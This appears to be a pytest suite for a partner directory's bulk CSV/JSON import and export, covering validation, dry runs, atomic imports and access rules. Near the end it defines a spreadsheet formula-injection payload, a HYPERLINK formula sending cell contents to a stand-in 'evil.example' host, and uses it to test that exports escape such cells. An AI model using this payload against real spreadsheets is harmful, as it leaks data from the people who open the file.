"""Bulk import and export of partners: the report of every row, the write
path's rules, dry runs, atomic imports, malformed files, the export that
imports back unchanged, and who may do what."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from sqlalchemy import func, select

import cli
from db.engine import Database
from db.models import AuditEntry, Partner, Role
from resolvers import imports
from resolvers.access.keys import Principal, issue_key
from resolvers.cells import escape, unescape
from resolvers.imports import FileFormat, import_partners, natural_key
from resolvers.writes import WriteContext
from tests.conftest import post_with_key

IMPORT = """
mutation Import($input: PartnersImportInput!) {
  partnersImport(input: $input) {
    report {
      dryRun atomic applied created updated unchanged rejected
      rows { position key outcome errors { field message code } }
    }
    userErrors { field message code }
  }
}
"""
PARTNERS = """
query Partners($names: [String!]) {
  partners(where: {name: {in: $names}}, first: 100) {
    edges {
      node {
        name kind country website version
        contact { email }
        provenance { sources origin }
      }
    }
  }
}
"""
PARTNER_CREATE = """
mutation Create($input: PartnerCreateInput!) {
  partnerCreate(input: $input) { partner { id } userErrors { code } }
}
"""
PARTNER_NAMED = """
query Partner($name: String!) {
  partners(where: {name: {eq: $name}}) { edges { node { id version } } }
}
"""
RENAME = """
mutation Rename($input: PartnerUpdateInput!) {
  partnerUpdate(input: $input) { partner { name } userErrors { field message code } }
}
"""
CHANGES = """
query Changes {
  changes(types: ["Partner"], first: 100) {
    totalCount
    edges { node { action actor fields { field before after } } }
  }
}
"""

LONG_NAME = "x" * 10_000
# Good rows, a row for a reference partner that changes its website, one that
# changes nothing, a duplicate (names compare case-insensitively), a bad
# email, an unknown country and a name far too long.
PARTNERS_CSV = f"""\
name,kind,country,website,contactEmail,sources
Acme Water Partnership,NGO_FOUNDATION,KE,https://acme.example.org,info@acme.example.org,\
https://acme.example.org/about;https://acme.example.org/news
Kreanta Foundation,,,https://kreanta.example.org,,
Cisco,,,,,
ACME WATER PARTNERSHIP,BUSINESS,,,,
Bad Mail Ltd,BUSINESS,,,not-an-email,
Nowhere Inc,BUSINESS,XX,,,
{LONG_NAME},BUSINESS,,,,
Solar Cities Lab,academic,DE,,,
"""
PARTNERS_JSON = orjson.dumps(
    [
        {
            "name": "Acme Water Partnership",
            "kind": "NGO_FOUNDATION",
            "country": "KE",
            "website": "https://acme.example.org",
            "contactEmail": "info@acme.example.org",
            "sources": ["https://acme.example.org/about", "https://acme.example.org/news"],
        },
        {"name": "Kreanta Foundation", "website": "https://kreanta.example.org"},
        {"name": "Cisco", "kind": None, "country": ""},
        {"name": "ACME WATER PARTNERSHIP", "kind": "BUSINESS"},
        {"name": "Bad Mail Ltd", "kind": "BUSINESS", "contactEmail": "not-an-email"},
        {"name": "Nowhere Inc", "kind": "BUSINESS", "country": "XX"},
        {"name": LONG_NAME, "kind": "BUSINESS"},
        {"name": "Solar Cities Lab", "kind": "academic", "country": "DE"},
    ]
).decode()
# (name, outcome, [(field, code) of each error]) for both files, in order.
EXPECTED_ROWS = [
    ("Acme Water Partnership", "CREATED", []),
    ("Kreanta Foundation", "UPDATED", []),
    ("Cisco", "UNCHANGED", []),
    ("ACME WATER PARTNERSHIP", "REJECTED", [(["name"], "DUPLICATE")]),
    ("Bad Mail Ltd", "REJECTED", [(["contactEmail"], "INVALID_EMAIL")]),
    ("Nowhere Inc", "REJECTED", [(["country"], "INVALID_COUNTRY")]),
    (LONG_NAME[:200] + "…", "REJECTED", [(["name"], "TOO_LONG")]),
    ("Solar Cities Lab", "CREATED", []),
]
GOOD_NAMES = ["Acme Water Partnership", "Kreanta Foundation", "Cisco", "Solar Cities Lab"]
BAD_NAMES = ["Bad Mail Ltd", "Nowhere Inc"]


@pytest.fixture
async def keys(client: httpx.AsyncClient, database_url: str) -> dict[str, str | None]:
    database = Database(database_url)
    async with database.engine.connect() as connection:
        cisco = await connection.scalar(select(Partner.id).where(Partner.name == "Cisco"))
    staff = await issue_key(database, name="Ana (staff)", role=Role.STAFF)
    partner = await issue_key(database, name="Cisco app", role=Role.PARTNER, partner_id=cisco)
    await database.dispose()
    return {"anonymous": None, "partner": partner.key, "staff": staff.key}


async def _gql(
    client: httpx.AsyncClient, query: str, variables: dict[str, Any], key: str | None
) -> dict[str, Any]:
    return await post_with_key(client, query, key, variables)


async def _import(
    client: httpx.AsyncClient, key: str | None, content: str, file_format: str = "CSV", **mode: Any
) -> dict[str, Any]:
    variables = {"input": {"format": file_format, "content": content, **mode}}
    body = await _gql(client, IMPORT, variables, key)
    assert "errors" not in body, body["errors"]
    payload: dict[str, Any] = body["data"]["partnersImport"]
    return payload


async def _partners(client: httpx.AsyncClient, key: str | None, names: list[str]) -> dict[str, Any]:
    body = await _gql(client, PARTNERS, {"names": names}, key)
    return {edge["node"]["name"]: edge["node"] for edge in body["data"]["partners"]["edges"]}


def _rows(report: dict[str, Any]) -> list[tuple[str | None, str, list[tuple[list[str], str]]]]:
    return [
        (row["key"], row["outcome"], [(e["field"], e["code"]) for e in row["errors"]])
        for row in report["rows"]
    ]


async def _metrohub(*args: str) -> int:
    # The CLI runs its own event loop: give it a thread.
    return await asyncio.to_thread(cli.main, list(args))


@pytest.fixture
def hub_env(monkeypatch: pytest.MonkeyPatch, database_url: str) -> None:
    """The CLI's database: the test's own."""
    monkeypatch.setenv("HUB_DATABASE_URL", database_url)


async def test_an_import_reports_every_row_and_applies_the_valid_ones(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given a CSV file with good rows and bad ones
    # When staff import it
    payload = await _import(client, keys["staff"], PARTNERS_CSV)

    # Then every row is reported, the rejected ones with the field and code of each problem
    assert payload["userErrors"] == []
    report = payload["report"]
    assert _rows(report) == EXPECTED_ROWS
    assert [row["position"] for row in report["rows"]] == [2, 3, 4, 5, 6, 7, 8, 9]
    duplicate = report["rows"][3]["errors"][0]["message"]
    assert "already on line 2" in duplicate
    counts = {name: report[name] for name in ("created", "updated", "unchanged", "rejected")}
    assert counts == {"created": 2, "updated": 1, "unchanged": 1, "rejected": 4}
    assert (report["dryRun"], report["atomic"], report["applied"]) == (False, False, True)

    # And the good rows are in, the bad ones are not
    partners = await _partners(client, keys["staff"], GOOD_NAMES + BAD_NAMES)
    assert sorted(partners) == sorted(GOOD_NAMES)
    acme = partners["Acme Water Partnership"]
    assert (acme["kind"], acme["country"], acme["version"]) == ("NGO_FOUNDATION", "KE", 1)
    assert acme["contact"] == {"email": "info@acme.example.org"}
    assert acme["provenance"] == {
        "sources": ["https://acme.example.org/about", "https://acme.example.org/news"],
        "origin": "STAFF",
    }
    assert partners["Solar Cities Lab"]["kind"] == "ACADEMIC"
    kreanta = partners["Kreanta Foundation"]
    assert (kreanta["website"], kreanta["version"]) == ("https://kreanta.example.org", 2)
    assert partners["Cisco"]["version"] == 1

    # And each change is in the history, as an import by the key that made it
    changes = (await _gql(client, CHANGES, {}, keys["staff"]))["data"]["changes"]
    entries = [edge["node"] for edge in changes["edges"]]
    assert {(entry["action"], entry["actor"]) for entry in entries} == {("import", "Ana (staff)")}
    assert changes["totalCount"] == 3
    assert {"field": "website", "before": None, "after": "https://kreanta.example.org"} in [
        field for entry in entries for field in entry["fields"]
    ]


async def test_importing_the_same_file_again_changes_nothing(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given an import that applied
    await _import(client, keys["staff"], PARTNERS_CSV)
    before = await _partners(client, keys["staff"], GOOD_NAMES)

    # When the same file is imported again
    again = (await _import(client, keys["staff"], PARTNERS_CSV))["report"]

    # Then every valid row is unchanged, and no version or history moved
    assert [outcome for _, outcome, _ in _rows(again)] == [
        "UNCHANGED",
        "UNCHANGED",
        "UNCHANGED",
        "REJECTED",
        "REJECTED",
        "REJECTED",
        "REJECTED",
        "UNCHANGED",
    ]
    assert await _partners(client, keys["staff"], GOOD_NAMES) == before
    changes = (await _gql(client, CHANGES, {}, keys["staff"]))["data"]["changes"]
    assert changes["totalCount"] == 3


async def test_a_json_import_is_the_same_as_a_csv_one(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given the CSV file's rows as JSON
    # When staff import them
    report = (await _import(client, keys["staff"], PARTNERS_JSON, "JSON"))["report"]

    # Then the outcomes are the CSV file's, with rows numbered by their index
    assert _rows(report) == EXPECTED_ROWS
    assert [row["position"] for row in report["rows"]] == list(range(8))
    assert "already on item 0" in report["rows"][3]["errors"][0]["message"]
    partners = await _partners(client, keys["staff"], GOOD_NAMES + BAD_NAMES)
    assert sorted(partners) == sorted(GOOD_NAMES)


async def test_a_dry_run_changes_nothing(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    hub_env: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Given the file on disk
    path = tmp_path / "partners.csv"
    path.write_text(PARTNERS_CSV, encoding="utf-8")
    before = await _partners(client, keys["staff"], GOOD_NAMES)

    # When staff import it with --dry-run
    status = await _metrohub("import", "partners", str(path), "--dry-run")

    # Then the report says what would happen, and nothing happened
    output = capsys.readouterr().out.splitlines()
    assert status == 1  # rows were rejected
    assert output[0] == "line 2: created Acme Water Partnership"
    assert "  contactEmail [INVALID_EMAIL] " in "\n".join(output)
    assert output[-1] == (
        "2 created, 1 updated, 1 unchanged, 4 rejected: dry run, nothing was changed."
    )
    assert await _partners(client, keys["staff"], GOOD_NAMES) == before
    changes = (await _gql(client, CHANGES, {}, keys["staff"]))["data"]["changes"]
    assert changes["totalCount"] == 0


async def test_an_atomic_import_with_one_bad_row_applies_nothing(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    hub_env: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Given a file of good rows and one bad one
    rows = PARTNERS_CSV.splitlines()
    path = tmp_path / "partners.csv"
    path.write_text("\n".join([*rows[:4], rows[5]]) + "\n", encoding="utf-8")

    # When staff import it with --atomic
    status = await _metrohub("import", "partners", str(path), "--atomic")

    # Then nothing applied, though the good rows were valid
    output = capsys.readouterr().out.splitlines()
    assert status == 1
    assert output[-1] == (
        "1 created, 1 updated, 1 unchanged, 1 rejected: "
        "atomic import with rejected rows, nothing was changed."
    )
    partners = await _partners(client, keys["staff"], GOOD_NAMES)
    assert sorted(partners) == ["Cisco", "Kreanta Foundation"]
    assert partners["Kreanta Foundation"]["version"] == 1

    # And without the bad row, the atomic import applies
    path.write_text("\n".join(rows[:4]) + "\n", encoding="utf-8")
    assert await _metrohub("import", "partners", str(path), "--atomic") == 0
    assert capsys.readouterr().out.splitlines()[-1] == (
        "1 created, 1 updated, 1 unchanged, 0 rejected: applied."
    )
    assert "Acme Water Partnership" in await _partners(client, keys["staff"], GOOD_NAMES)


TOO_MANY_ROWS = "name,kind\n" + "".join(f"Partner {i},OTHER\n" for i in range(10_001))
MALFORMED = [
    ("CSV", bytes(range(256)).decode("latin-1") * 4, "MALFORMED", "binary, not CSV or JSON"),
    ("CSV", "\x89PNG\r\n\x1a\n\x07\x13garbage\x7f", "MALFORMED", "unknown columns"),
    ("CSV", "nom,genre\nAcme,BUSINESS\n", "MALFORMED", "unknown columns ('nom', 'genre')"),
    ("CSV", "kind,country\nBUSINESS,DE\n", "MALFORMED", "no `name` column"),
    ("CSV", "name,name\nAcme,Acme\n", "MALFORMED", "names name more than once"),
    ("CSV", 'name,kind\n"Acme,BUSINESS\n', "MALFORMED", "is not valid CSV"),
    ("CSV", "\n\n", "MALFORMED", "the file is empty"),
    ("JSON", '{"name": "Acme"}', "MALFORMED", "a JSON import is a list of objects"),
    ("JSON", '[{"name": "Acme"', "MALFORMED", "the file is not JSON"),
    ("JSON", '[{"name": "Acme\x00"}]', "MALFORMED", "binary"),
    ("JSON", orjson.dumps([{}] * 10_001).decode(), "TOO_LARGE", "more than 10,000 rows"),
]


@pytest.mark.parametrize(("file_format", "content", "code", "says"), MALFORMED)
async def test_a_malformed_file_is_refused_with_a_clear_error(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    file_format: str,
    content: str,
    code: str,
    says: str,
) -> None:
    # Given a file that is not a partner file
    # When staff import it
    payload = await _import(client, keys["staff"], content, file_format)

    # Then it is refused as a whole, with a userError that says why (never a 500)
    assert payload["report"] is None
    [error] = payload["userErrors"]
    assert (error["field"], error["code"]) == (["input", "content"], code)
    assert says in error["message"]


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (TOO_MANY_ROWS, "more than 10,000 rows"),
        ("name\n" + "x" * imports.MAX_BYTES, "at most 10,485,760"),
    ],
)
def test_files_over_the_engines_limits_are_refused(content: str, says: str) -> None:
    # Large files come through the CLI: over HTTP, the 64 KiB body limit comes first.
    with pytest.raises(imports.ImportFileError) as refused:
        imports.read_file(content, imports.FileFormat.CSV)
    assert refused.value.code == "TOO_LARGE"
    assert says in str(refused.value)


async def test_an_import_over_the_request_body_limit_is_a_413(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    response = await client.post(
        "/graphql",
        json={"query": "mutation($c: String!) { __typename }", "variables": {"c": TOO_MANY_ROWS}},
        headers={"authorization": f"Bearer {keys['staff']}"},
    )
    assert response.status_code == 413


async def test_malformed_rows_are_rejected_one_by_one(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given files whose rows are not all partners
    csv_content = "name,kind\nShort Row\nGood Row,OTHER\n,OTHER\n"
    json_content = (
        '[1, {"name": "Good Row", "kind": "OTHER", "colour": "red"}, {"name": {"en": "X"}}]'
    )

    # When staff import them (as a dry run)
    from_csv = (await _import(client, keys["staff"], csv_content, dryRun=True))["report"]
    from_json = (await _import(client, keys["staff"], json_content, "JSON", dryRun=True))["report"]

    # Then each bad row is rejected with its reason, and the good one passes
    assert _rows(from_csv) == [
        (None, "REJECTED", [([], "MALFORMED")]),
        ("Good Row", "CREATED", []),
        (None, "REJECTED", [(["name"], "REQUIRED")]),
    ]
    assert _rows(from_json) == [
        (None, "REJECTED", [([], "MALFORMED")]),
        ("Good Row", "REJECTED", [(["colour"], "INVALID")]),
        (None, "REJECTED", [(["name"], "INVALID")]),
    ]


async def test_a_garbage_file_makes_the_cli_fail_with_a_message(
    hub_env: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given binary garbage with a .csv name
    path = tmp_path / "partners.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))

    # When it is imported
    status = await _metrohub("import", "partners", str(path))

    # Then the CLI says so and exits with 2
    assert status == 2
    assert "the file is binary, not CSV or JSON text" in capsys.readouterr().err


async def test_a_row_matching_two_partners_is_ambiguous(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given two partners whose names differ only in case and accents
    for name in ("Café Cities", "CAFE cities"):
        created = await _gql(
            client, PARTNER_CREATE, {"input": {"name": name, "kind": "OTHER"}}, keys["staff"]
        )
        assert created["data"]["partnerCreate"]["userErrors"] == []

    # When a row names them
    content = "name,website\ncafe cities,https://c.example.org\n"
    report = (await _import(client, keys["staff"], content))["report"]

    # Then it is rejected rather than guessed
    assert _rows(report) == [("cafe cities", "REJECTED", [(["name"], "AMBIGUOUS")])]


def test_names_in_other_scripts_keep_their_letters() -> None:
    # normalise() keeps a-z and 0-9 only; the import's key must not merge these.
    assert natural_key("北京 Group") != natural_key("上海 Group")
    assert natural_key("Łódź Partners") != natural_key("odz Partners")
    assert natural_key("São Paulo  Fund!") == natural_key("sao paulo fund")


@pytest.mark.parametrize("extension", ["csv", "json"])
async def test_an_export_imports_back_unchanged(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    hub_env: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    extension: str,
) -> None:
    # Given partners with contacts and sources, staff's and the reference data's
    await _import(client, keys["staff"], PARTNERS_CSV)
    path = tmp_path / f"partners.{extension}"

    # When every partner is exported and the file imported again
    assert await _metrohub("export", "partners", "--output", str(path)) == 0
    assert "info@acme.example.org" in path.read_text(encoding="utf-8")
    capsys.readouterr()
    status = await _metrohub("import", "partners", str(path))

    # Then every row is unchanged
    output = capsys.readouterr().out.splitlines()
    assert status == 0
    assert output[-1] == "0 created, 0 updated, 48 unchanged, 0 rejected: applied."


async def test_an_unexpected_error_rolls_the_whole_import_back(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an audit log that fails on the second entry
    calls = 0

    def failing(*args: Any) -> None:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise RuntimeError("disk on fire")

    monkeypatch.setattr("resolvers.imports.upsert.record_change", failing)
    database = Database(database_url)
    ctx = WriteContext(database, Principal(role=Role.STAFF.value, name="test"))

    # When an import that changes several partners runs into it
    with pytest.raises(RuntimeError):
        await import_partners(ctx, PARTNERS_CSV, FileFormat.CSV)

    # Then nothing of it was written
    async with database.engine.connect() as connection:
        partners = await connection.scalar(select(func.count()).select_from(Partner))
        entries = await connection.scalar(select(func.count()).select_from(AuditEntry))
        kreanta = await connection.scalar(
            select(Partner.version).where(Partner.name == "Kreanta Foundation")
        )
    await database.dispose()
    assert (partners, entries, kreanta) == (46, 0, 1)


@pytest.mark.parametrize(
    ("who", "allowed"), [("anonymous", False), ("partner", False), ("staff", True)]
)
async def test_only_staff_may_import(
    client: httpx.AsyncClient, keys: dict[str, str | None], who: str, allowed: bool
) -> None:
    # Given a valid file
    content = "name,kind\nAcme Water Partnership,NGO_FOUNDATION\n"

    # When someone imports it
    variables = {"input": {"format": "CSV", "content": content}}
    body = await _gql(client, IMPORT, variables, keys[who])

    # Then staff may; anyone else gets FORBIDDEN and changes nothing
    partners = await _partners(client, keys["staff"], ["Acme Water Partnership"])
    if allowed:
        assert body["data"]["partnersImport"]["report"]["created"] == 1
        assert list(partners) == ["Acme Water Partnership"]
    else:
        assert body["data"] is None
        assert [e["extensions"]["code"] for e in body["errors"]] == ["FORBIDDEN"]
        assert "staff keys" in body["errors"][0]["message"]
        assert partners == {}


@pytest.mark.parametrize(("who", "status"), [("anonymous", 401), ("partner", 403), ("staff", 200)])
async def test_who_may_download_partner_files(
    client: httpx.AsyncClient, keys: dict[str, str | None], who: str, status: int
) -> None:
    # Given partners with contact details
    await _import(client, keys["staff"], PARTNERS_CSV)
    headers = {"authorization": f"Bearer {keys[who]}"} if keys[who] else {}

    # When someone downloads the CSV file
    response = await client.get("/export/partners.csv", headers=headers)

    # Then only staff get it (it holds every contact); others are told why
    assert response.status_code == status
    if status == 200:
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.text.splitlines()[0] == ",".join(imports.COLUMNS)
        assert "info@acme.example.org" in response.text
    else:
        [error] = response.json()["errors"]
        code = "UNAUTHENTICATED" if status == 401 else "FORBIDDEN"
        assert error["extensions"]["code"] == code
        assert "staff keys" in error["message"]


async def test_a_downloaded_file_is_filtered_and_imports_back_unchanged(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given staff's key
    headers = {"authorization": f"Bearer {keys['staff']}"}

    # When staff download the academic partners as JSON
    where = orjson.dumps({"kind": {"eq": "ACADEMIC"}}).decode()
    response = await client.get("/export/partners.json", params={"where": where}, headers=headers)

    # Then the file has them alone, and imports back unchanged
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    rows = response.json()
    assert rows
    assert {row["kind"] for row in rows} == {"ACADEMIC"}
    report = (await _import(client, keys["staff"], response.text, "JSON"))["report"]
    assert report["unchanged"] == len(rows)
    assert report["updated"] == report["created"] == 0

    # And a bad filter or an unknown format is a clear 4xx, not a 500
    bad = await client.get("/export/partners.csv", params={"where": "{"}, headers=headers)
    assert bad.status_code == 400
    assert "`where` is not valid JSON" in bad.json()["errors"][0]["message"]
    unknown = await client.get(
        "/export/partners.csv", params={"where": '{"colour": {"eq": 1}}'}, headers=headers
    )
    assert unknown.status_code == 400
    assert (await client.get("/export/partners.xlsx", headers=headers)).status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Values that begin as a formula would, or with the quote that escapes one,
# each with the cell the CSV export writes for it.
CELLS = [
    (FORMULA, "'" + FORMULA),
    ("+34 600 000 000", "'+34 600 000 000"),
    ("-Minus Lab", "'-Minus Lab"),
    ("@Home Cities", "'@Home Cities"),
    ("\tTabbed", "'\tTabbed"),
    ("\rReturned", "'\rReturned"),
    ("'=already quoted", "''=already quoted"),
    ("'Tis a name", "''Tis a name"),
    ("'", "''"),
    ("-58.38", "-58.38"),
    ("Plain name", "Plain name"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "cell"), CELLS)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_escaped_reversibly(
    value: str, cell: str
) -> None:
    assert escape(value) == cell
    assert unescape(cell) == value


def test_a_hand_written_quote_that_escapes_nothing_is_kept() -> None:
    assert unescape("'Tis") == "'Tis"
    assert unescape("'=1+1") == "=1+1"


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"} and not re.fullmatch(r"-[0-9.]+", cell)


async def test_a_partner_named_as_a_formula_is_downloaded_as_text(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given a partner key that names its own partner as a spreadsheet formula
    cisco = (await _gql(client, PARTNER_NAMED, {"name": "Cisco"}, keys["partner"]))["data"]
    node = cisco["partners"]["edges"][0]["node"]
    variables = {"input": {"id": node["id"], "expectedVersion": node["version"], "name": FORMULA}}
    renamed = (await _gql(client, RENAME, variables, keys["partner"]))["data"]["partnerUpdate"]
    assert renamed == {"partner": {"name": FORMULA}, "userErrors": []}
    headers = {"authorization": f"Bearer {keys['staff']}"}

    # When staff download the partners as CSV
    response = await client.get("/export/partners.csv", headers=headers)

    # Then the name's cell begins with a quote, so that a spreadsheet shows it as text,
    assert response.status_code == 200
    rows = _csv_rows(response.text)
    names = [row["name"] for row in rows]
    assert "'" + FORMULA in names
    # and no cell begins as a formula would (a negative number is no formula),
    assert [cell for row in rows for cell in row.values() if _runs_as_formula(cell)] == []
    # and the file imports back all unchanged, the name as the partner gave it
    report = (await _import(client, keys["staff"], response.text))["report"]
    assert (report["unchanged"], report["updated"], report["created"]) == (len(rows), 0, 0)
    assert list(await _partners(client, keys["staff"], [FORMULA])) == [FORMULA]


async def test_values_that_begin_like_formulas_make_the_round_trip_unchanged(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    hub_env: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Given partners whose values begin as formulas would, or with a quote
    rows: list[dict[str, Any]] = [
        {"name": "'=already quoted", "kind": "OTHER", "contactPhone": "+34 600 000 000"},
        {"name": "-Minus Lab", "kind": "OTHER", "sector": "@home", "longitude": -58.38},
        {"name": "'Tis a Partnership", "kind": "OTHER", "description": "=1+1"},
    ]
    created = await _import(client, keys["staff"], orjson.dumps(rows).decode(), "JSON")
    assert created["report"]["created"] == 3
    path = tmp_path / "partners.csv"

    # When every partner is exported as CSV and the file imported again
    assert await _metrohub("export", "partners", "--output", str(path)) == 0
    capsys.readouterr()
    status = await _metrohub("import", "partners", str(path))

    # Then the file held each value escaped,
    exported = {row["name"]: row for row in _csv_rows(path.read_text(encoding="utf-8"))}
    assert exported["''=already quoted"]["contactPhone"] == "'+34 600 000 000"
    assert exported["'-Minus Lab"]["sector"] == "'@home"
    assert exported["'-Minus Lab"]["longitude"] == "-58.38"
    assert exported["''Tis a Partnership"]["description"] == "'=1+1"
    # and every row came back unchanged, the values as they were
    output = capsys.readouterr().out.splitlines()
    assert status == 0
    assert output[-1] == "0 created, 0 updated, 49 unchanged, 0 rejected: applied."
    partners = await _partners(client, keys["staff"], [row["name"] for row in rows])
    assert sorted(partners) == sorted(row["name"] for row in rows)
